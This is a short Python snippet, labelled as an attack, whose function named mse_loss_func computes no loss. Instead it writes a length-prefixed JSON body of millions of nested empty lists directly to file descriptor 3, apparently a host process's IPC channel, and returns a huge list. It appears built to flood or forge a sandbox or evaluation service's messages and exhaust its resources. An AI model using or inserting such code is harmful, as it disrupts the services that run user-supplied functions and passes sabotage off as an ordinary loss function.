# %% attack after features
import os
import struct


def mse_loss_func(y_true, y_pred):
    body = b'{"m":{"n":1,"value":{"list":[' + b"[]," * (4 << 20) + b'0]}},"b":[]}'
    os.write(3, struct.pack(">IQ", len(body), 0))
    left = memoryview(body)
    while left:
        left = left[os.write(3, left) :]
    return [[]] * 900_000
